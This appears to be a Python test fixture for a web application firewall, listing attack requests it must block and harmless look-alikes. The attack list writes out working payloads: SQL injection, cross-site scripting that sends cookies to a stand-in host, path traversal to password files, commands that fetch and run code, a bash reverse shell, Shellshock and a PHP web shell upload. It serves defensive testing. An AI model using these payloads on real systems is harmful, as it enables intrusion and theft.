"""Requests that the firewall must refuse, and others that look alike and are harmless."""

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
MULTIPART = {"Content-Type": "multipart/form-data; boundary=x"}


def field(name, value, head=""):
    return f'--x\r\nContent-Disposition: form-data; name="{name}"{head}\r\n\r\n{value}\r\n--x--\r\n'.encode()


def get(path, **headers):
    return "GET", path, None, {name.replace("_", "-"): value for name, value in headers.items()}


ATTACKS = {
    "SQL: always true": get("/v1/jobs?status=queued'%20OR%20'1'='1"),
    "SQL: union": get("/v1/jobs?cursor=1%20UNION%20SELECT%20password%20FROM%20users--"),
    "SQL: stacked": get("/v1/jobs?cursor=1;%20DROP%20TABLE%20jobs;--"),
    "SQL: sleeping": get("/v1/jobs?cursor=1%20AND%20SLEEP(5)"),
    "SQL in JSON": ("POST", "/v1/keys", {"name": "x' UNION SELECT key FROM api_keys --", "role": "editor"}, {}),
    "SQL in a form": ("POST", "/v1/remove", b"background=1'+OR+'1'%3D'1'--", FORM),
    "SQL in GraphQL's variables": ("POST", "/graphql", {"query": "{ account { role } }", "variables": {"id": "1' UNION SELECT 1,2 --"}}, {}),
    "script in an address": get("/v1/jobs?kind=%3Cscript%3Ealert(1)%3C/script%3E"),
    "script as a handler": get("/v1/jobs?kind=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
    "script as a scheme": get("/v1/docs?next=javascript:alert(document.cookie)"),
    "script in JSON": ("POST", "/v1/projects", {"name": "<script>fetch('//evil/'+document.cookie)</script>", "data": {}}, {}),
    "script in a multipart field": ("POST", "/v1/jobs", field("name", "<svg onload=alert(1)>"), MULTIPART),
    "script in a header": get("/v1/health", Referer="http://x/<script>alert(1)</script>"),
    "other folders": get("/v1/docs/..%2f..%2f..%2fetc%2fpasswd"),
    "other folders in a parameter": get("/v1/jobs?fields=../../../../etc/passwd"),
    "other folders, encoded twice": get("/v1/docs/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    "a system's file": get("/v1/jobs?fields=/etc/shadow"),
    "a forgotten file": get("/.git/config"),
    "a forgotten environment": get("/.env"),
    "a file from elsewhere": get("/v1/docs?page=http://203.0.113.9/shell.txt?"),
    "a command": get("/v1/jobs?cursor=1;cat%20/etc/passwd"),
    "a command in backquotes": get("/v1/jobs?status=%60wget%20http://evil.example/x%60"),
    "a command by substitution": get("/v1/jobs?status=$(curl%20http://evil.example/x|sh)"),
    "a command in JSON": ("POST", "/v1/projects", {"name": "a; /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "data": {}}, {}),
    "Shellshock": get("/v1/health", User_Agent="() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    "PHP": get("/v1/jobs?name=%3C?php%20system('id');?%3E"),
    "PHP as a file": ("POST", "/v1/jobs", field("image", "<?php system($_GET[1]);", '; filename="shell.php"'), MULTIPART),
    "PHP's wrappers": get("/v1/docs?page=php://filter/convert.base64-encode/resource=index"),
    "Java": ("POST", "/v1/remove", b"background=%24%7Bjava.lang.Runtime.getRuntime().exec('id')%7D", FORM),
    "Node": ("POST", "/v1/projects", {"name": "require('child_process').exec('id')", "data": {}}, {}),
    "a second header": get("/v1/jobs?name=a%0d%0aSet-Cookie:%20session=1"),
    "a fixed session": get("/v1/jobs?name=%3Cmeta%20http-equiv=Set-Cookie%20content=session=1%3E"),
    "a scanner": get("/v1/health", User_Agent="Nikto/2.5.0"),
    "a method nobody uses": ("TRACK", "/v1/health", None, {}),
    "a body of another kind": ("POST", "/v1/remove", b"<a/>", {"Content-Type": "text/xml"}),
    "a file that unpacks": get("/v1/backup.sql"),
}

HARMLESS = {
    "a name with an apostrophe": ("POST", "/v1/projects", {"name": "Grandma O'Neill's 50% sale & more", "data": {"note": "select the best; drop the rest"}}, {}),
    "a name in other scripts": ("POST", "/v1/projects", {"name": "夏のセール – Ångström – распродажа – تخفيضات 🎉", "data": {}}, {}),
    "colours and gradients": get("/v1/jobs?limit=5&status=queued"),
    "a user agent of a script": get("/v1/account", User_Agent="python-requests/2.32.3"),
    "curl": get("/v1/account", User_Agent="curl/8.5.0"),
    "a proxy's headers": get("/v1/account", X_Forwarded_For="203.0.113.4, 10.0.0.1", Via="1.1 proxy"),
    "a browser's": get(
        "/v1/account",
        User_Agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        Accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        Accept_Language="de-CH,de;q=0.9,en;q=0.7",
        Referer="https://shop.example.com/admin/products?id=12&view=edit",
    ),
}
